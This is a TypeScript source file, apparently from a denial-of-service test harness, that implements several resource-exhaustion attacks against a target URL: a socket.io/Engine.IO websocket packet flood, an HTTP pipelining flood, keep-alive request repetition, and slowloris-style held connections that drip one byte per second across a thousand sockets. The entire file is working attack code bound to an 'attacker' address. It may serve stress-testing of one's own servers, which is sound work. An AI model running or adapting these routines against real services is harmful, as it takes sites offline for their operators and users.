import { Agent, request } from 'node:http';
import { connect } from 'node:net';

import { FrameSocket } from '../frame-socket.ts';
import { ATTACKER_ADDRESS, type AttackJob } from './job.ts';
import { done, often } from './repeat.ts';

type Target = Pick<AttackJob, 'url'>;

/** Connections that send at the same time. */
const SENDING = 50;
/** Connections that are held open. */
const HELD = 1_000;
const SOCKETS = 10;
const PACKETS = 500;
/** Bytes: more would only fill the memory of the attacker. */
const UNSENT = 1024 * 1024;
/** Bytes of requests that a connection sends in one piece. */
const PIPELINED = 64 * 1024;

/** Sends packets that are not events: pongs of Engine.IO, and acknowledgements of nothing. */
export function floodPackets({ url }: Target, packets: readonly string[]): void {
  const send = (socket: FrameSocket): void => {
    if (socket.unsent > UNSENT) return;
    for (let at = 0; at < PACKETS; at += 1) for (const packet of packets) socket.send(packet);
    done.events += PACKETS * packets.length;
  };
  often(SOCKETS, async () => {
    await new Promise<void>((resolve) => {
      let sending: NodeJS.Timeout | undefined;
      const socket = new FrameSocket({
        url: `${url}/socket.io/?EIO=4&transport=websocket`,
        localAddress: ATTACKER_ADDRESS,
        // The server speaks first.
        onText: () => (sending ??= setInterval(() => send(socket), 1)),
        onClose() {
          clearInterval(sending);
          resolve();
        },
      });
    });
  });
}

/** Keeps connections open, and sends many requests on each without waiting for an answer. */
export function pipeline({ url }: Target, paths: readonly string[]): void {
  const { hostname, port } = new URL(url);
  const one = paths.map((path) => `GET ${path} HTTP/1.1\r\nHost: x\r\n\r\n`).join('');
  const count = Math.ceil(PIPELINED / one.length);
  const piece = one.repeat(count);
  often(SENDING, async () => {
    const socket = connect({ host: hostname, port: Number(port), localAddress: ATTACKER_ADDRESS });
    socket.on('error', () => undefined).resume();
    const end = new Promise((resolve) => socket.once('close', resolve));
    const sending = setInterval(() => {
      if (socket.writableLength > UNSENT) return;
      socket.write(piece);
      done.events += count * paths.length;
    }, 1);
    await end;
    clearInterval(sending);
  });
}

/** Keeps connections open, and sends one request after the other on each. */
export function askAgain(target: Target, path: string): void {
  const agent = new Agent({ keepAlive: true, maxSockets: SENDING });
  often(SENDING, () => ask(target, { path, headers: {} }, agent));
}

/** Opens connections that send `head`, and then a byte every second. */
export function hold({ url }: Target, head: string): void {
  const { hostname, port } = new URL(url);
  often(HELD, async () => {
    const socket = connect({ host: hostname, port: Number(port), localAddress: ATTACKER_ADDRESS });
    socket.on('error', () => undefined);
    const end = new Promise((resolve) => socket.once('close', resolve));
    socket.write(head);
    const dripping = setInterval(() => socket.write('x'), 1_000);
    await end;
    clearInterval(dripping);
  });
}

interface Sent {
  readonly path: string;
  readonly body?: string;
  readonly headers: Readonly<Record<string, string>>;
}

/** Sends a request and reads the answer. If there is no agent, it has a connection of its own. */
export function ask(
  { url }: Target,
  { body, headers, path }: Sent,
  agent: Agent | false = false,
): Promise<void> {
  return new Promise((resolve, reject) => {
    const sent = request(`${url}${path}`, {
      ...{ method: body === undefined ? 'GET' : 'POST', headers },
      ...{ agent, localAddress: ATTACKER_ADDRESS },
    });
    sent.on('error', reject);
    sent.on('response', (answer) => answer.resume().on('close', resolve));
    sent.end(body);
  });
}
